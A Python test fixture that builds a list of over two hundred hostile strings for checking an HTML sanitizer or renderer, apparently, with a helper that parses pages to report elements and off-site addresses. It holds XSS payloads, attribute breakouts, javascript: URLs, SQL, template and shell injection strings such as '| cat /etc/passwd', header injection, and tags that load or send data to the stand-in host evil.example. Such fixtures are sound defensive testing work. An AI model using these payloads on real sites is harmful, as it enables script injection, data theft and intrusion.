"""Two hundred strings that want to be more than text, made by rules, and what a page may be made of."""

# ruff: noqa: E501

from html import unescape
from typing import Final

import html5lib

_ACT: Final = "alert(1)"
_ELEMENTS: Final = (
    "<script>ACT</script>",
    "<ScRiPt>ACT</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ACT>",
    "<img src='//evil.example/pixel.gif'>",
    "<svg onload=ACT>",
    "<svg><script>ACT</script></svg>",
    "<svg><a xlink:href='javascript:ACT'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=ACT attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>ACT</script>'></iframe></foreignObject></svg>",
    "<iframe src='javascript:ACT'></iframe>",
    "<iframe srcdoc='&lt;script&gt;ACT&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>ACT</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>ACT</script></template>",
    "<form action='//evil.example/'><input name=csrf><button>Approve</button></form>",
    "<button formaction='//evil.example/'>Undo</button>",
    "<input autofocus onfocus=ACT>",
    "<details open ontoggle=ACT><summary>x</summary></details>",
    "<video><source onerror=ACT></video>",
    "<audio src=x onerror=ACT>",
    "<body onload=ACT>",
    "<marquee onstart=ACT>x</marquee>",
    "<dialog open>x</dialog>",
    "<table background='//evil.example/x.png'><tr><td>x",
    "<a href='javascript:ACT'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<b>bold</b><i>x</i><u>y</u>",
    "<noscript><p title='</noscript><img src=x onerror=ACT>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ACT>'>",
    "<math><mi//xlink:href='data:x,<script>ACT</script>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=ACT>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ACT>",
    "<select><style></select><img src=x onerror=ACT></style>",
    "<title><a title='</title><img src=x onerror=ACT>'>",
    "<textarea><img title='</textarea><img src=x onerror=ACT>'>",
    "<xmp><p title='</xmp><svg/onload=ACT>'>",
    "<plaintext>",
    "<listing>&lt;img onerror=ACT&gt;</listing>",
    "<isindex action='javascript:ACT' type=image>",
    "<keygen autofocus onfocus=ACT>",
    "<portal src='//evil.example/'></portal>",
    "<x-frame onclick=ACT tabindex=1>x</x-frame>",
    "<slot name=x></slot><div slot=x>y</div>",
    "<!doctype html><html><head><script>ACT</script>",
)
_BREAKOUTS: Final = (
    '"><ACT>', "'><img src=x onerror=ACT>", '" onmouseover="ACT', "' onfocus='ACT' autofocus='", "` onload=`ACT`",
    '"/><script>ACT</script>', "</blockquote><script>ACT</script>", "</bdi></p></li><script>ACT</script>",
    "</title><script>ACT</script>", "</textarea><script>ACT</script>", "</option></select><img src=x onerror=ACT>",
    "--><script>ACT</script><!--", "]]><script>ACT</script>", "*/ACT/*", "\\\"><svg onload=ACT>", "';ACT;//",
    '"};ACT;//', "${ACT}", "</script><script>ACT</script>", "<!--><img src=x onerror=ACT>-->",
)  # fmt: skip
_ADDRESSES: Final = (
    "javascript:ACT", "JaVaScRiPt:ACT", " javascript:ACT", "java\tscript:ACT", "java\nscript:ACT", "vbscript:ACT",
    "javascript&colon;ACT", "&#106;avascript:ACT", "data:text/html,<script>ACT</script>", "data:text/html;base64,PHg+",
    "//evil.example/x", "\\\\evil.example\\x", "https://news.example@evil.example/", "https://evil.example/?q=<script>ACT</script>",
    "https://evil.example/\"onmouseover=ACT", "file:///etc/passwd", "../../../etc/passwd", "..\\..\\windows", "/console/../demo?x",
    "?told=saved&site=x", "#fragment", "https://[::1]/", "https://xn--pypal-4ve.example/", "ftp://evil.example",
    "feed:javascript:ACT", "view-source:x", "blob:https://evil.example/1", "intent://evil.example#Intent;end",
)  # fmt: skip
_OTHERS: Final = (
    "{{7*7}}", "{{config.items()}}", "{% for x in range(9) %}x{% endfor %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{{x}}}",
    "%(number)s %(by)s", "%s%s%s%n", "%d %", "{0.__class__}", "{number!r:>99999}", "$(id)", "`id`", "; ls -la", "| cat /etc/passwd",
    "' OR 1=1 --", "'; DROP TABLE comments; --", '" OR ""="', "1 UNION SELECT * FROM people", "a%' AND '1%'='1", "\\' OR 1=1",
    "&lt;script&gt;ACT&lt;/script&gt;", "&#60;script&#62;ACT", "&#x3c;img src=x onerror=ACT&#x3e;", "&amp;lt;b&amp;gt;", "&nbsp;&shy;&zwj;",
    "&CounterClockwiseContourIntegral;", "\\u003cscript\\u003eACT", "\\x3cscript\\x3e", "%3Cscript%3EACT%3C/script%3E", "+ADw-script+AD4-",
    "one\r\nSet-Cookie: a=b\r\n\r\n<html>", "Location: //evil.example\r\n", "a\rb\nc\x0bd\x0ce", "tab\tbell\x07back\x08escape\x1b[31mred",
    "null\ufffd%00\\0&#0;", "\ufeffmark", "\ufffe\uffff", "\u202egnp.exe\u202c", "\u2066\u2067\u2068x", "\u202d\u202e" * 20 + "x",
    "a\u200bb\u200cc\u200dd\u2060e", "\u00adsoft\u00adhyphen", "p\u0430yp\u0430l.example", "\u0391\u0392\u0412", "ｆｕｌｌ ｗｉｄｔｈ ＜script＞",
    "‹script›ACT‹/script›", "e" + "\u0301" * 200, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349", "👩‍👩‍👧‍👦" * 20,
    "👍🏽🏳️‍🌈🏴\U000e0067\U000e0062\U000e007f", "\U000e0041\U000e0042", "\ue000\uf8ff", "مرحبا <b>بالعالم</b> 123", "שלום <script>ACT</script> 456", "x" * 1500,
    "<" * 700, "&" * 700, "\"'" * 300, "> " * 300, "<b " * 200, "<!--", "-->", "<![CDATA[", "<?php echo 1 ?>", "]]>", "</", "<a", "<", "&", "&#", "&#x",
    "*/", "/*", "}body{display:none}", "expression(ACT)", "url(javascript:ACT)", "color:red;background:url(//evil.example/x)", "@charset 'x';",
    "__proto__", "constructor", "toString", "NaN", "undefined", "null", "true", "-0", "1e999", "[object Object]", "CON", "nul.txt", "\\", "/", "%", "?", "#",
)  # fmt: skip


def hostile() -> list[str]:
    """Return them, each once."""
    made = [one.replace("ACT", _ACT) for one in (*_ELEMENTS, *_BREAKOUTS, *_ADDRESSES, *_OTHERS)]
    made += [unescape(one) for one in made if "&" in one and unescape(one) != one]
    made += [one.upper() for one in made[:20]]
    found = list(dict.fromkeys(made))
    assert len(found) >= 200
    return found


HARMLESS: Final = (
    "A plain text.",
    "Many words of a long text. " * 60,
    "Hidden \u200b\u202e characters and p\u0430ypal",
    "Write to anna@news.example, or see https://news.example/more",
    "مرحبا بالعالم 123",
    "One line,\nand another one.",
    "Café, naïve, 日本語 and 👍🏽",
    "pаypаl pаypаl \u200b\u200c\u202e \U000e0041 " * 30,
    "-",
)
Kind = tuple[str, tuple[str, ...]]


def made_of(page: str) -> tuple[set[Kind], list[str]]:
    """Return what a page is made of, as a browser parses it: each element with the names of its attributes.

    And the addresses that it asks a browser to follow, load or send to, and that are not its own.
    """
    found, away = set(), []
    for one in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(one.tag, str):
            continue
        found.add((one.tag, tuple(sorted(map(str, one.keys())))))
        for name in ("href", "src", "action", "formaction", "data", "srcset"):
            address = one.get(name)
            if address is not None and (not address.startswith(("/", "?", "#")) or address.startswith("//")):
                away.append(address)
    return found, away
